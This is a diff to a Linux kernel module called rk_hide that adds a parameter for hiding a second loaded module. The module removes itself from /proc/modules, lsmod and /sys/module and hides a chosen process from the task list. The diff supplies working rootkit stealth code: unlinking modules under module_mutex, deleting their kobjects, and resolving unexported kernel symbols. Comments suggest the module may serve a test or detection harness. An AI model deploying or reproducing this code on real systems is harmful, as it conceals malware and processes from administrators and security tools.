@@ -8,6 +8,8 @@
  *     module_mutex) and its kobject deleted (kobject_del), so it is gone from
  *     /proc/modules, lsmod and /sys/module; its memory, its symbols' addresses
  *     and its entry in the kernel's module address tree (mod_tree) stay;
+ *   - with `also=NAME`, hides another loaded module the same way (it can no
+ *     longer be unloaded either);
  *   - hides a process from the task list: with `pid=N` (a process, i.e. a
  *     thread-group leader; 0 = none, the default) the task_struct is unlinked
  *     from init_task.tasks (list_del_rcu under tasklist_lock, then, after an
@@ -27,7 +29,7 @@
  * One line, for tests (addresses raw):
  *   rk_hide: hooked module-list,sysfs[,task-list] module=0x<struct module> \
  *     text=0x<core text base>+0x<size> kthread=<pid>:0x<task_struct> \
- *     [hidden_pid=<pid>:0x<task_struct>]
+ *     [hidden_pid=<pid>:0x<task_struct>] [also=<module>]
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -58,6 +60,13 @@ MODULE_PARM_DESC(thread_name, "name of the module's kernel thread");
 static int beat_ms = 1000;
 module_param(beat_ms, int, 0444);
 MODULE_PARM_DESC(beat_ms, "the kernel thread's wake-up period");
+static char *also;
+module_param(also, charp, 0444);
+MODULE_PARM_DESC(also, "another loaded module to hide the same way (none by default)");
+
+typedef struct module *(*find_module_t)(const char *name);
+static find_module_t find_module_p;	/* not exported */
+static bool also_hidden;
 
 #include "rk_common.h"
 
@@ -103,11 +112,24 @@ static bool hide_task(struct task_struct *t)
 
 static void hide_module(void)
 {
+	struct module *other = NULL;
+
 	mutex_lock(module_mutex_p);
 	list_del_rcu(&THIS_MODULE->list);
+	if (also && *also) {
+		other = find_module_p(also);
+		if (other && other != THIS_MODULE)
+			list_del_rcu(&other->list);
+		else
+			other = NULL;
+	}
 	mutex_unlock(module_mutex_p);
 	synchronize_rcu();
 	kobject_del(&THIS_MODULE->mkobj.kobj);
+	if (other) {
+		kobject_del(&other->mkobj.kobj);
+		also_hidden = true;
+	}
 }
 
 static int beat_fn(void *unused)
@@ -134,7 +156,9 @@ static int beat_fn(void *unused)
 		      task_hidden ? ",task-list" : "", THIS_MODULE, TEXT_BASE(THIS_MODULE),
 		      (unsigned int)TEXT_SIZE(THIS_MODULE), current->pid, current);
 	if (task_hidden)
-		scnprintf(line + n, sizeof(line) - n, " hidden_pid=%d:%px", victim->pid, victim);
+		n += scnprintf(line + n, sizeof(line) - n, " hidden_pid=%d:%px", victim->pid, victim);
+	if (also_hidden)
+		scnprintf(line + n, sizeof(line) - n, " also=%s", also);
 	pr_info("%s\n", line);
 	if (victim) {
 		put_task_struct(victim);
@@ -159,6 +183,11 @@ static int __init rk_hide_init(void)
 	}
 	tasklist_lock_p = (rwlock_t *)kln("tasklist_lock");
 	module_mutex_p = (struct mutex *)kln("module_mutex");
+	find_module_p = (find_module_t)kln("find_module");
+	if (also && *also && !find_module_p) {
+		pr_err("find_module not found\n");
+		return -ENOENT;
+	}
 	if (!tasklist_lock_p || !module_mutex_p) {
 		pr_err("tasklist_lock or module_mutex not found\n");
 		return -ENOENT;
